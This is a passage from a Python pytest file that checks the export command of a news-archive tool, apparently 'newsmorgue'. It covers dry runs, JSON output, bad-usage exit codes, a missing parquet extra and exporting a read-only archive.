    command: Callable[..., tuple[int, str, str]], crawled: Crawled, tmp_path: Path
) -> None:
    flags = ("--json", "--site", crawled.portal.name, "--until", "2027-01-01")
    code, out, err = command("csv", str(tmp_path / "out"), *flags)
    assert code == 0, err
    told = json.loads(out)
    assert told["schema"] == 1
    assert told["out"] == str(tmp_path / "out")
    assert {**told, "out": None} == {"out": None, **json.loads((tmp_path / "out" / "release.json").read_text("utf-8"))}
    assert told["filters"]["until"] == "2027-01-01T00:00:00.000Z"


@pytest.mark.parametrize("form", export.FORMATS)
def test_a_dry_run_counts_and_writes_nothing(
    command: Callable[..., tuple[int, str, str]], crawled: Crawled, tmp_path: Path, form: str
) -> None:
    before = {path: path.read_bytes() for path in crawled.folder.rglob("*") if path.is_file()}
    code, out, err = command(form, str(tmp_path / "out"), "--dry-run", "--json")
    assert code == 0, err
    assert {path: path.read_bytes() for path in crawled.folder.rglob("*") if path.is_file()} == before
    assert list(tmp_path.iterdir()) == []
    would = json.loads(out)["would_write"]
    told = {
        name: n for name, n in write(crawled.folder, form, tmp_path / "out").counts.items() if "dictionary" not in name
    }
    assert would == told
    code, out, err = command(form, str(tmp_path / "out"), "--dry-run")
    assert code == 2, "OUT is there now"


def test_people_see_a_table(command: Callable[..., tuple[int, str, str]], tmp_path: Path) -> None:
    code, out, err = command("sqlite", str(tmp_path / "db.sqlite"))
    assert code == 0
    assert "db.sqlite" in out
    assert f"wrote {tmp_path / 'db.sqlite'}" in err
    code, out, err = command("jsonl", str(tmp_path / "out"), "--dry-run")
    assert re.search(r"articles\.jsonl +153", out)
    assert "nothing was written" in err


@pytest.mark.parametrize(
    "words",
    [["xml", "out"], ["csv"], ["csv", "out", "--site", "nobody"], ["csv", "out", "--since", "soon"], ["warc", "out", "--public"],
     ["csv", "out", "--since", "2026-02-01", "--until", "2026-01-01"]],
)  # fmt: skip
def test_bad_usage_exits_with_two(
    command: Callable[..., tuple[int, str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = command(*words)
    assert code == 2
    assert "rror" in err
    assert out == ""
    assert list(tmp_path.iterdir()) == []


def test_without_the_extra_the_error_names_it(
    command: Callable[..., tuple[int, str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("pyarrow", "pyarrow.parquet"):
        monkeypatch.setitem(sys.modules, name, None)
    for flags in ([], ["--dry-run"]):
        code, _, err = command("parquet", str(tmp_path / "out"), *flags)
        assert code == 2
        assert "newsmorgue[parquet]" in err
    assert list(tmp_path.iterdir()) == []


def test_a_read_only_archive_can_be_exported(crawled: Crawled, tmp_path: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(crawled.folder, folder)
    for path in folder.rglob("*"):
        path.chmod(0o555 if path.is_dir() else 0o444)
    folder.chmod(0o555)
    write(folder, "csv", tmp_path / "out")
    assert read_csv(tmp_path / "out" / "articles.csv")
    folder.chmod(0o755)
    os.chmod(folder / "warc", 0o755)
